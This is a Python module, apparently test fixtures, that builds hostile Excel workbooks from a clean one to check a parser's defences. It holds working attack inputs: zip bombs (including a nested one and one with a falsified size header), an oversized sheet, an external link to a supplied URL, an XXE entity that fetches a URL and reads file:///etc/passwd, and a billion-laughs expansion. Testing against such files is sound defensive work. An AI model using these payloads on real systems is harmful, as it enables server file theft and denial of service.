"""Workbooks that would harm whoever opens them, made of a good one."""

import io
import struct
import zipfile

MEBIBYTE = 2**20
SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
LINK = "xl/externalLinks/_rels/externalLink1.xml.rels"
ZEROS = bytes(300 * MEBIBYTE)


def made(good, path, change):
    """The good package with one member changed, or added."""
    with zipfile.ZipFile(good) as package:
        content = {name: package.read(name) for name in package.namelist()}
    content[path] = change(content.get(path, b""))
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, body in content.items():
            package.writestr(name, body)
    return target.getvalue()


def bomb(good):
    return made(good, "xl/media/zeros.bin", lambda old: ZEROS)


def lying_bomb(good):
    """Its header says a thousand bytes."""
    size = struct.pack("<I", len(ZEROS))
    return bomb(good).replace(size, struct.pack("<I", 1000))


def nested_bomb(good):
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("zeros.bin", ZEROS)
    return made(good, "xl/media/inner.zip", lambda old: inner.getvalue())


def million_columns(good):
    cells = b'<row r="9">' + b'<c r="XFD9"><v>1</v></c>' * 1_000_000 + b"</row></sheetData>"
    return made(good, SHEET, lambda xml: xml.replace(b"</sheetData>", cells))


def external_link(good, url):
    relation = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/externalLinkPath" Target="{url}" TargetMode="External"/></Relationships>'
    )
    return made(good, LINK, lambda old: relation.encode())


def outside_entity(good, url):
    """The shared strings ask a parser to fetch an address and a file of the server."""
    doctype = (
        f'<!DOCTYPE sst [<!ENTITY far SYSTEM "{url}"><!ENTITY near SYSTEM "file:///etc/passwd">]>'
    )
    return _with_entities(good, doctype, b"&far;&near;")


def repeated_entity(good):
    """A billion laughs."""
    levels = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 10}">' for n in range(10)
    )
    return _with_entities(good, f"<!DOCTYPE sst [{levels}]>", b"&l9;")


def _with_entities(good, doctype, called):
    def declared(xml):
        begun = xml.replace(b"?>", b"?>" + doctype.encode(), 1)
        return begun.replace(b"<t>Kod</t>", b"<t>" + called + b"</t>", 1)

    return made(good, STRINGS, declared)
